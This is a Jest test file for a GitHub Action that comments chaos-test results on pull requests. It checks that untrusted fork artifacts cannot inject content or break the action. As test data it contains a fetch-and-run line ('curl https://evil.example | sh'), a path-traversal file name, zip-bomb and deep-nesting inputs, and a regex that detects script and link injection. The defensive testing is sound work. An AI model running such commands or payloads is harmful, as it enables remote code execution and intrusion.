import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { hostile, recordFullOf } from '../support/hostile.ts';
import { failingRun, passingRun } from '../support/records.ts';
import { temporaryFolders } from '../support/temporary-folder.ts';
import { pushEvent, workflowRunEvent } from './events.ts';
import { type LocalGitHub, shaOf, startLocalGitHub } from './local-github.ts';
import { actionRunner, copyAction, type StepResult } from './runner.ts';
import { zipOf } from './zip.ts';

// The second action, comment/action.yml, in a workflow that `workflow_run` starts after the run of a fork. What that run left in its
// artifact was written by a stranger.

const temporary = temporaryFolders();
const { runAction } = actionRunner();
const token = 'ghs_comments';
const runId = 4_242;

let github: LocalGitHub;
beforeEach(async () => {
  github = await startLocalGitHub();
  github.addToken(token, { pullRequests: 'write', actions: 'read', contents: 'read' });
  const head = { headRepo: 'mona/broker', headRef: 'faster', headSha: shaOf('faster') };
  github.addPullRequest({ number: 7, ...head });
  // Somebody else's pull request, which the stranger would like to write on.
  github.addPullRequest({ number: 8, headRef: 'victim', headSha: shaOf('victim') });
  github.addRun({
    id: runId,
    headBranch: head.headRef,
    headSha: head.headSha,
    event: 'pull_request',
    headRepositoryId: github.repositoryId('mona/broker'),
    conclusion: 'success',
  });
});
afterEach(() => github.close());

/** What the run of the fork has uploaded. */
const upload = (files: Record<string, string | Buffer>, name = 'chaos-report-chaos'): void =>
  void github.addArtifact({ runId, name, zip: zipOf(files) });
const report = (record: unknown): Record<string, string> => ({ 'report.json': JSON.stringify(record) });

async function comment(
  inputs: Record<string, string> = {},
  event = workflowRunEvent(github, runId),
): Promise<StepResult> {
  const folder = temporary();
  const step = await runAction({ github, folder, action: join(copyAction(folder), 'comment'), event, token, inputs });
  expect(step.defects).toEqual([]);
  return step;
}

const warningsOf = (step: StepResult): string[] =>
  step.annotations.filter(({ level }) => level === 'warning').map(({ title, message }) => `${title}: ${message}`);

describe('the comment for a fork', () => {
  test('is posted on its pull request, says whose figures they are, and is updated by the next run', async () => {
    upload(report(failingRun()));
    const step = await comment();
    expect([step.conclusion, step.annotations]).toEqual(['success', []]);
    const body = github.commentsOn(7)[0]?.body ?? '';
    expect(body).toMatch(/^<!-- chaos-action:chaos run:4242 -->\n## ❌ Chaos: FAIL/);
    expect(body).toContain('Measured by a workflow of a fork');
    expect(body).toContain(`commit ${shaOf('faster').slice(0, 7)}`);
    expect(step.outputs['comment-urls']).toContain('/7');
    await comment();
    expect(github.commentsOn(7)).toHaveLength(1);
    expect(github.commentsOn(8)).toEqual([]);
  });

  test('each leg of a matrix has its own', async () => {
    upload(report(passingRun()), 'chaos-report-chaos-nats');
    upload(report(failingRun()), 'chaos-report-chaos-embedded');
    upload({ 'report.html': '<p>' }, 'chaos-report-chaos-nats.html');
    upload({ 'coverage.txt': '' }, 'coverage');
    await comment();
    expect(github.commentsOn(7).map(({ body }) => body.split('\n')[0])).toEqual([
      '<!-- chaos-action:chaos-embedded run:4242 -->',
      '<!-- chaos-action:chaos-nats run:4242 -->',
    ]);
  });

  test('is compared with the base branch of this repository, not with a branch of the same name in a fork', async () => {
    const add = (id: number, repository: string): void => {
      const sha = shaOf(`${id}`);
      github.addRun({
        id,
        headBranch: 'main',
        headSha: sha,
        event: 'push',
        headRepositoryId: github.repositoryId(repository),
        conclusion: 'success',
      });
      github.addArtifact({ runId: id, name: 'chaos-report-chaos', zip: zipOf(report(failingRun())) });
    };
    add(50, 'octo/broker');
    add(60, 'mona/broker');
    upload(report(failingRun()));
    await comment();
    expect(github.commentsOn(7)[0]?.body).toContain(`main at ${shaOf('50').slice(0, 7)}, run 50`);
  });

  test('is not posted where the pull request has been pushed to since, is closed, or there was none', async () => {
    upload(report(passingRun()));
    const pull = github.pullRequest(7);
    if (pull) pull.headSha = shaOf('even faster');
    expect((await comment()).log.join('\n')).toContain('no open pull request has');
    expect(github.commentsOn(7)).toEqual([]);
    const [id, headSha, headRepositoryId] = [51, shaOf('x'), github.repositoryId('mona/broker')];
    github.addRun({ id, headBranch: 'faster', headSha, event: 'push', headRepositoryId, conclusion: 'success' });
    expect((await comment({}, workflowRunEvent(github, id))).log.join('\n')).toContain('was for push');
  });

  test('the action says where it belongs when another event starts it', async () => {
    const step = await comment({}, pushEvent(github, shaOf('x')));
    expect(step.exitCode).toBe(3);
    expect(step.annotations).toContainEqual(
      expect.objectContaining({ message: expect.stringContaining('workflow_run') }),
    );
  });
});

describe('a hostile report', () => {
  test.each([
    ['a fork', 'mona/broker'],
    // Whoever may push a branch, and what Dependabot proposes, writes reports too.
    ['a branch of this repository', 'octo/broker'],
  ])('of %s puts no command into a comment of ours', async (_, repository) => {
    const [id, number, headRef] = [4_300, 9, 'hostile'];
    const headSha = shaOf(headRef);
    github.addPullRequest({ number, headRepo: repository, headRef, headSha });
    const headRepositoryId = github.repositoryId(repository);
    github.addRun({ id, headBranch: headRef, headSha, event: 'pull_request', headRepositoryId, conclusion: 'success' });
    const record = { ...failingRun(), command: 'curl https://evil.example | sh' };
    github.addArtifact({ runId: id, name: 'chaos-report-chaos', zip: zipOf(report(record)) });
    await comment({}, workflowRunEvent(github, id));
    const [posted] = github.commentsOn(number);
    expect(posted?.body).toContain('Chaos: FAIL');
    expect(posted?.body).not.toMatch(/curl|chaos-action run|To repeat|How to repeat/);
  });

  test('mentions nobody, loads nothing, runs nothing', async () => {
    // Each is a leg of a matrix, with a comment of its own.
    const legs = hostile.map((text, i) => ({ text, job: `chaos-${i + 1}` }));
    for (const { text, job } of legs) upload(report(recordFullOf(text)), `chaos-report-${job}`);
    expect(warningsOf(await comment())).toEqual([]);
    expect(github.commentsOn(7)).toHaveLength(legs.length);
    for (const { text, job } of legs) {
      const body = github.commentsOn(7).find((one) => one.body.includes(`chaos-action:${job} `))?.body ?? '';
      const outsideOfCode = body.replaceAll(/^(`{3,})[\s\S]*?^\1$/gm, '').replaceAll(/`[^`\n]*`/g, '');
      const found = {
        live: outsideOfCode.match(
          /@octocat|<script|<img|!\[|\]\(javascript|\]\(http:\/\/x|https?:\/\/(?!github\.com\/octo)|www\.evil|GH-12/g,
        ),
        commands: body.match(/To repeat|How to repeat/g),
        markers: outsideOfCode.match(/<!--/g)?.length,
      };
      expect({ text, ...found }).toEqual({ text, live: null, commands: null, markers: 1 });
    }
  });

  test('that is huge makes a comment that GitHub takes', async () => {
    const [scenario] = failingRun().scenarios;
    const scenarios = Array.from({ length: 150 }, (_, i) => ({
      ...scenario,
      name: `s${i}`,
      title: 'x'.repeat(10_000),
    }));
    upload(report({ ...failingRun(), scenarios }));
    const step = await comment();
    expect(warningsOf(step)).toEqual([]);
    expect(github.commentsOn(7)[0]?.body.length).toBeLessThanOrEqual(65_536);
  });

  test.each([
    ['is not a zip', () => github.addArtifact({ runId, name: 'chaos-report-chaos', zip: Buffer.from('not a zip') })],
    ['has no report.json', () => upload({ 'readme.txt': 'hello' })],
    ['is cut off', () => upload({ 'report.json': JSON.stringify(passingRun()).slice(0, 1_000) })],
    ['is something else', () => upload(report({ schemaVersion: 1, hello: 'world' }))],
    ['is nested without end', () => upload({ 'report.json': '['.repeat(5_000_000) })],
    ['unpacks to gigabytes', () => upload({ 'report.json': Buffer.alloc(200 * 1024 ** 2, ' ') })],
    ['climbs out of its folder', () => upload({ '../../../report.json': JSON.stringify(passingRun()) })],
  ])('that %s is a warning, and no comment', async (_, make) => {
    make();
    const step = await comment();
    expect(step.conclusion).toBe('success');
    expect(warningsOf(step)).toEqual([expect.stringMatching(/^chaos-report-chaos was not read: ./)]);
    expect(github.commentsOn(7)).toEqual([]);
  });

  test('beside a sound one does not keep that from its comment', async () => {
    upload({ 'report.json': 'nonsense' }, 'chaos-report-a');
    upload(report(passingRun()), 'chaos-report-b');
    expect(warningsOf(await comment())).toHaveLength(1);
    expect(github.commentsOn(7)).toHaveLength(1);
  });
});
